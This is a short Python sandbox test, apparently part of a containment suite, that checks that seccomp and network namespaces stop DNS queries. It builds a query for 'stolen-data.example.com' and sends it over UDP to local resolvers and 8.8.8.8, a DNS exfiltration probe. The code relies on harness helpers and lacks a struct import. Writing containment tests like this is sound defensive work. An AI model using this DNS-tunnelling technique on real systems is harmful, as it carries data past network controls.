# id: NET3
# field: network_access
# kept-by: seccomp network_namespace
# witness: udp
# expect: no query leaves the jail, so no data leaves in the queried names

import socket

name = b"".join(bytes([len(part)]) + part for part in (b"stolen-data", b"example", b"com"))
query = struct.pack("!HHHHHH", 1, 0x100, 1, 0, 0, 0) + name + b"\0" + struct.pack("!HH", 1, 1)


def send_query(server, port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(query, (server, port))


for server, port in (("127.0.0.1", ARG["udp_port"]), ("127.0.0.53", 53), ("8.8.8.8", 53)):
    attempt("%s:%d" % (server, port), send_query, server, port)
    if got:
        break
report_outcome()
